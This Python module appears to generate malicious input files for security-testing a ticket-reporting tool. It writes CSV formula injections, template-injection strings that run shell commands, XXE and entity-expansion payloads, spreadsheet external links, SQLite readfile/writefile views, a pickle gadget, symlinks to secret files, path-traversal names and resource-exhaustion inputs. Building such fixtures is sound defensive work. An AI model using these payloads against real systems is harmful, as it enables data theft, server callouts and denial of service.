"""Files that try to make their reader open another file, connect, start a program, or spend what they are not worth.

Each try writes into a folder that a stranger sent. `secret` is a file outside of it, `url` a server that listens.
"""

import json
import os
import pickle
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from contextlib import closing
from io import BytesIO
from pathlib import Path

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter

HEADER = "ticket_id,created_at,status,channel,first_response_at,solved_at\n"
ROW = "{n},2026-01-0{n} 09:00,solved,{channel},2026-01-0{n} 09:30,2026-01-0{n} 12:00\n"
Try = Callable[[Path, Path, str], None]
TRIES: dict[str, Try] = {}


def attempt(made: Try) -> Try:
    """One more try, by its name."""
    TRIES[made.__name__.replace("_", " ")] = made
    return made


def plain(channels: list[str], header: str = HEADER, more: str = "") -> str:
    """A few sound tickets with these words in a column that reports are cut by."""
    quoted = ['"' + channel.replace('"', '""') + '"' for channel in channels]
    return (
        header + "".join(ROW.format(n=n % 9 + 1, channel=channel) for n, channel in enumerate(quoted)) + more
    )


def words(secret: Path, url: str) -> list[str]:
    """Words that mean something elsewhere."""
    return [
        f'=HYPERLINK("{url}")', f'=WEBSERVICE("{url}")', f"=cmd|' /C type {secret}'!A0", f"@{secret}", f"file:{secret}",
        f"file://{secret}", "env:HOME", "$(cat secret.txt)", "`id`", "{{ ''.__class__.__mro__ }}", "{% include 'secret.txt' %}",
        f"{{{{ cycler.__init__.__globals__.os.popen('cat {secret}').read() }}}}", "{year}-{week}", "%(message)s", "${jndi:ldap://x}",
        f"<img src={url}>", f"</style><link rel=stylesheet href={url}>", f"url({url})", f"@import url({url});",
        f"<svg><image href='{url}'/></svg>", f"<script src='{url}'></script>", f"![x]({url})", f"[x]({url})", f"<{url}>",
        f"\x1b]8;;{url}\x07x\x1b]8;;\x07", f"\x1b]52;c;{'QQ=='}\x07", f"javascript:fetch('{url}')", "<!--#include file='secret.txt'-->",
        f"<!ENTITY x SYSTEM 'file://{secret}'>", f"<xi:include href='{secret}'/>", "@everyone", f"<{url}|x>", "!!python/object/apply:os.system",
    ]  # fmt: skip


@attempt
def cells(folder: Path, secret: Path, url: str) -> None:
    (folder / "tickets.csv").write_text(plain(words(secret, url)))


@attempt
def headers(folder: Path, secret: Path, url: str) -> None:
    more = ",".join('"' + word.replace('"', '""') + '"' for word in words(secret, url))
    rows = plain(["email", "chat"], HEADER.strip() + f",{more}\n").splitlines()
    filled = [rows[0], *(row + ",x" * len(words(secret, url)) for row in rows[1:])]
    (folder / "tickets.csv").write_text("\n".join(filled) + "\n")


@attempt
def names_of_files(folder: Path, secret: Path, url: str) -> None:
    for name in (
        "--config=x.csv",
        "-o.csv",
        "@secret.csv",
        "http:x.csv",
        "[a-z]*.csv",
        "a\nb.csv",
        "$(id).csv",
        "env:HOME.csv",
    ):
        (folder / name).write_text(plain(["email"]))
    (folder / "t.sqlite#SELECT readfile('secret.txt').csv").write_text(plain(["chat"]))
    (folder / "<img src=x>.csv").write_text(plain(["phone"]))


@attempt
def links(folder: Path, secret: Path, url: str) -> None:
    (folder / "tickets.csv").write_text(plain(["email"]))
    (folder / "customers.csv").symlink_to(secret)
    (folder / "surveys.csv").symlink_to("/proc/self/environ")
    (folder / "calls.csv").symlink_to(folder / "calls.csv")
    os.mkfifo(folder / "orders.csv")


def workbook(
    parts: dict[str, str | bytes], change: Callable[[str, bytes], bytes] = lambda _, data: data
) -> bytes:
    """A sound workbook with some parts more, or changed."""
    sound = BytesIO()
    with xlsxwriter.Workbook(sound, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Tickets")
        for number, line in enumerate(plain(["email", "chat"]).splitlines()):
            sheet.write_row(number, 0, [cell.strip('"') for cell in line.split(",")])
    out = BytesIO()
    with zipfile.ZipFile(sound) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


def entity(secret: Path, url: str) -> bytes:
    """A declaration that would put a file and an answer of a server into the text."""
    text = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY % y SYSTEM "{url}"> %y;]>'
    return text.encode()


@attempt
def entities_in_a_workbook(folder: Path, secret: Path, url: str) -> None:
    def change(name: str, data: bytes) -> bytes:
        if name not in ("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"):
            return data
        head, _, rest = data.partition(b"?>")
        return head + b"?>" + entity(secret, url) + rest.replace(b">email<", b">&x;<")

    (folder / "tickets.xlsx").write_bytes(workbook({}, change))


@attempt
def entities_that_grow(folder: Path, secret: Path, url: str) -> None:
    grow = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )

    def change(name: str, data: bytes) -> bytes:
        head, _, rest = data.partition(b"?>")
        return head + b"?>" + grow.encode() + b"]>" + rest.replace(b">email<", b">&j;<")

    (folder / "tickets.xlsx").write_bytes(workbook({}, lambda n, d: change(n, d) if "shared" in n else d))


@attempt
def links_of_a_workbook(folder: Path, secret: Path, url: str) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="r1" Type="{kind}/externalLinkPath" Target="{{}}" TargetMode="External"/>'
    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    parts: dict[str, str | bytes] = {
        "xl/externalLinks/externalLink1.xml": '<externalLink><externalBook r:id="r1"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations.format(one.format(f"file://{secret}")),
        "xl/worksheets/_rels/sheet1.xml.rels": relations.format(one.format(url)),
        "xl/connections.xml": f'<connections><connection id="1" type="4"><webPr url="{url}"/></connection></connections>',
        "xl/queryTables/queryTable1.xml": '<queryTable connectionId="1" refreshOnLoad="1"/>',
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500),
        "../../evil.csv": "evil",
        str(secret): "evil",
    }
    formula = f'<f>[1]Sheet1!A1</f><f>WEBSERVICE("{url}")</f>'.encode()
    (folder / "tickets.xlsm").write_bytes(
        workbook(parts, lambda n, d: d.replace(b"<v>", formula + b"<v>", 3) if "sheet1.xml" in n else d)
    )


@attempt
def a_sheet_as_large_as_can_be(folder: Path, secret: Path, url: str) -> None:
    def change(name: str, data: bytes) -> bytes:
        data = data.replace(b'ref="A1:F3"', b'ref="A1:XFD1048576"')
        return data.replace(
            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        )

    (folder / "tickets.xlsx").write_bytes(workbook({}, lambda n, d: change(n, d) if "sheet1" in n else d))


@attempt
def an_open_document(folder: Path, secret: Path, url: str) -> None:
    name = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    cell = '<table:table-cell table:number-columns-repeated="16000"><text:p>&x;</text:p></table:table-cell>'
    rows = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    text = f'<office:spreadsheet><table:table table:name="T">{rows}</table:table></office:spreadsheet>'
    root = f'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" {name}><office:body>{text}</office:body></office:document-content>'
    with zipfile.ZipFile(folder / "tickets.ods", "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        made.writestr("content.xml", '<?xml version="1.0"?>' + entity(secret, url).decode() + root)


@attempt
def programs_of_sqlite(folder: Path, secret: Path, url: str) -> None:
    with closing(sqlite3.connect(folder / "t.sqlite")) as made:
        made.executescript(
            f"CREATE TABLE tickets ({HEADER.strip()}, x AS (hex(zeroblob(30000000))));"
            "CREATE VIEW calls AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n;"
            f"CREATE VIEW surveys AS SELECT readfile('{secret}') AS answer;"
            f"CREATE TRIGGER t INSTEAD OF INSERT ON surveys BEGIN SELECT writefile('{folder}/evil', 'x'); END;"
            "CREATE VIRTUAL TABLE search USING fts4(text);"
            "INSERT INTO tickets VALUES (1, '2026-01-01', 'solved', 'email', '2026-01-01', '2026-01-02')"
        )
        made.execute("PRAGMA writable_schema = ON")
        made.execute(
            "INSERT INTO sqlite_master VALUES ('table', 'orders', 'orders', 0, ?)",
            (f"CREATE VIRTUAL TABLE orders USING csv(filename='{secret}')",),
        )
        made.commit()


class Program:
    """What pickle would run."""

    def __init__(self, place: Path) -> None:
        self.place = place

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Writes a file."""
        return os.mkdir, (str(self.place),)


@attempt
def words_of_parquet(folder: Path, secret: Path, url: str) -> None:
    rows = pl.read_csv(plain(["email", "chat"]).encode()).to_arrow()
    extension = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(Program(folder / "evil")),
    }
    fields = [field.with_metadata(extension) for field in rows.schema]
    said = {b"pandas": json.dumps({"index_columns": [f"file://{secret}"], "url": url}).encode(), **extension}
    schema = pa.schema(fields, metadata=said)
    pq.write_table(rows.cast(schema), folder / "tickets.parquet")
    with pa.ipc.new_file(folder / "tickets.arrow", schema) as made:
        made.write_table(rows.cast(schema))


@attempt
def rows_of_parquet_that_lie_elsewhere(folder: Path, secret: Path, url: str) -> None:
    other = secret.with_name("other.parquet")
    rows = pl.read_csv(plain([secret.read_text().strip()]).encode()).to_arrow()
    pq.write_table(rows, other)
    said = pq.read_metadata(other)
    for where, name in ((f"../{other.name}", "a"), (str(other), "b"), (f"{url}/x", "c")):
        said.set_file_path(where)
        pq.write_metadata(rows.schema, folder / f"{name}.parquet", metadata_collector=[said])


@attempt
def references_of_json(folder: Path, secret: Path, url: str) -> None:
    rows = [{"id": 1, "created_at": "2026-01-05", "$ref": f"file://{secret}", "href": url, "@odata.id": url}]
    envelope = {
        "tickets": rows,
        "next_page": url,
        "links": {"next": url},
        "@odata.nextLink": url,
        "$schema": url,
    }
    (folder / "tickets.json").write_text(json.dumps(envelope))
    (folder / "more.ndjson").write_text(
        '{"type": "STATE", "$include": "' + str(secret) + '"}\n' + json.dumps(rows[0])
    )


@attempt
def numbers_that_take_long(folder: Path, secret: Path, url: str) -> None:
    header = HEADER.strip() + ",csat_score,first_response_time,handle_time\n"
    rows = [
        f"{n},2026-01-0{n % 9 + 1} 09:00,solved,email,,,{'9' * 6000},{'9' * 5000} h {'9' * 5000} m,1e{'9' * 3000}"
        for n in range(30)
    ]
    (folder / "tickets.csv").write_text(header + "\n".join(rows) + "\n")
    dates = [
        f"{'1' * 3000}-01-01",
        "01/" * 5000,
        "2026-01-01" + " " * 20_000 + "x",
        "1" * 4301,
        "9" * 19,
        "-" * 9999,
    ]
    lines = [f"{n},{date},{date},{n}" for n, date in enumerate(dates * 5)]
    (folder / "surveys.csv").write_text(
        "response_id,responded_at,created_at,score\n" + "\n".join(lines) + "\n"
    )


@attempt
def words_that_take_long(folder: Path, secret: Path, url: str) -> None:
    hard = [
        "a" * 6_000 + "!",
        "(" * 2_000,
        "x@" * 2_000,
        "0:" * 2_000,
        "\u0301" * 2_000,
        "ﷺ" * 1_000,
        " \t" * 2_000,
        "1," * 2_000,
    ]
    (folder / "tickets.csv").write_text(plain(hard))
    answers = "\n".join(f'{n},2026-01-02,{n % 5 + 1},"{hard[n % len(hard)]}"' for n in range(40))
    (folder / "surveys.csv").write_text("response_id,responded_at,csat_score,comment\n" + answers + "\n")


SETTINGS = {
    "presets that lie elsewhere": 'presets = ["{secret}", "../*.txt"]',
    "a time zone that is a path": 'timezone = "../../../..{secret}"',
    "a history": 'record = "{folder}/evil.db"',
    "addressees": '[notify]\na = "env:HOME"\n[report.weekly]\noutput = ["evil.html"]\nnotify = ["a"]',
    "a logo": '[report]\nlogo = "{secret}"',
    "a template": 'template = "{secret}"',
    "a metric that reads": '[[metric]]\nid = "x"\ntitle = "x"\nkind = "mean"\nvalue = "(SELECT a FROM read_csv(\'{secret}\'))"',
    "a column that is a file": '[tickets.columns]\nchannel = "{secret}"\n[tickets.values.status]\n"env:HOME" = "solved"',
}


def settings(text: str) -> Try:
    """Sound rows, and a configuration beside them."""

    def made(folder: Path, secret: Path, url: str) -> None:
        (folder / "tickets.csv").write_text(plain(["email"]))
        said = text.format(secret=secret, folder=folder, host=url.removeprefix("http://"))
        (folder / "cxkpi.toml").write_text(said)

    return made


TRIES |= {f"settings: {name}": settings(text) for name, text in SETTINGS.items()}


@attempt
def a_store_that_lies_elsewhere(folder: Path, secret: Path, url: str) -> None:
    """Its rows are a link out of it."""
    other = secret.with_name("rows.parquet")
    frame = pl.read_csv(plain([secret.read_text().strip()]).encode(), infer_schema=False)
    frame.write_parquet(other)
    (folder / "aa.rows").symlink_to(other)
    columns = [[name, "String"] for name in frame.columns]
    file = {
        "path": "tickets.csv",
        "digest": "x",
        "bytes": 1,
        "rows": frame.height,
        "table": "tickets",
        "separator": ",",
        "above": 1,
    }
    batch = {"name": "aa.rows", "bytes": other.stat().st_size, "columns": columns, "files": [file]}
    (folder / "cxkpi-store.json").write_text(json.dumps({"cxkpi_store": 1, "batches": [batch]}))


@attempt
def a_store_that_unpacks_to_terabytes(folder: Path, secret: Path, url: str) -> None:
    frame = pl.select(pl.repeat("x" * 1000, 3_000_000, dtype=pl.String).alias("ticket_id"))
    frame.write_parquet(folder / "aa.rows", compression="zstd")
    file = {"path": "tickets.csv", "digest": "x", "bytes": 1, "rows": frame.height, "table": "tickets"}
    batch = {
        "name": "aa.rows",
        "bytes": (folder / "aa.rows").stat().st_size,
        "columns": [["ticket_id", "String"]],
        "files": [file],
    }
    (folder / "cxkpi-store.json").write_text(json.dumps({"cxkpi_store": 1, "batches": [batch]}))


@attempt
def a_name_in_a_packed_file(folder: Path, secret: Path, url: str) -> None:
    import gzip

    data = BytesIO()
    with gzip.GzipFile(filename="../../evil.csv", fileobj=data, mode="wb") as packed:
        packed.write(plain(["email"]).encode())
    (folder / "tickets.csv.gz").write_bytes(data.getvalue())
    (folder / "more.csv.zst").write_bytes(struct.pack("<IBBB", 0xFD2FB528, 0xE0, 0xFF, 0xFF) + b"\xff" * 20)


@attempt
def a_web_page_with_the_name_of_a_table(folder: Path, secret: Path, url: str) -> None:
    (folder / "tickets.xls").write_text(
        f'<?xml version="1.0"?>{entity(secret, url).decode()}<Workbook>&x;</Workbook>'
    )
    (folder / "more.csv").write_text(f"sep=,\n<html><img src='{url}'><iframe src='file://{secret}'>\n")
